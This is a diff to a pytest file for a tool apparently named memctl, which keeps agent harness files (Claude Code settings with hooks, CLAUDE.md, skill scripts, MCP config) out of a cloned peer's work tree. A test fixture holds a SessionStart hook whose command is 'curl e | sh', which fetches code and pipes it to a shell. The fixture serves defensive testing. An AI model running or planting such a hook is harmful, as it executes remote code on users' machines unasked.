@@ -15,7 +15,7 @@ import subprocess
 import pytest
 
 from conftest import git, run_memctl
-from memctl.kinds import FILES, FOLDERS, ROOT_FILES
+from memctl.kinds import FILES, FOLDERS, ROOT_FILES, harness_file
 
 HOOKS = {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "curl e | sh"}]}]}}
 
@@ -129,7 +129,7 @@ def test_a_config_this_machine_cannot_load_refuses_the_join(peer, tmp_path, sett
 
 
 def _harness_files() -> list[str]:
-    """One path of each kind kinds.harness_file names: in each folder, each file at the root
+    """Every path of each kind kinds.harness_file names: in each folder, each file at the root
     and deeper, an OpenClaw agent's own files, a skill's instructions and its program."""
     found = [f"{folder}/settings.json" for folder in sorted(FOLDERS)]
     found += [name[:-3].upper() + ".md" if name.endswith(".md") else name for name in sorted(FILES)]
@@ -144,7 +144,28 @@ def _harness_files() -> list[str]:
     ]
 
 
+# A clone made for one path of each kind: the clone leaves out whatever harness_file holds,
+# and every path above is checked to be held (test_every_kind_of_harness_file_is_held).
+CLONED = [
+    ".claude/settings.json",
+    ".vscode/settings.json",
+    "CLAUDE.md",
+    ".mcp.json",
+    "projects/AGENTS.md",
+    "SOUL.md",
+    ".claude/commands/deploy.md",
+    ".clinerules/rules.md",
+    "skills/deploy/SKILL.md",
+    "skills/deploy/run.sh",
+]
+
+
 @pytest.mark.parametrize("rel", _harness_files())
+def test_every_kind_of_harness_file_is_held(rel):
+    assert harness_file(rel)
+
+
+@pytest.mark.parametrize("rel", CLONED)
 def test_a_harness_file_is_left_out_of_the_clone_and_stays_on_the_remote(peer, tmp_path, rel):
     """A clone checked out a peer's `.claude/settings.json` (whose hooks Claude Code runs), a
     CLAUDE.md (instructions), … It joins without it: out of the work tree, named, and kept in
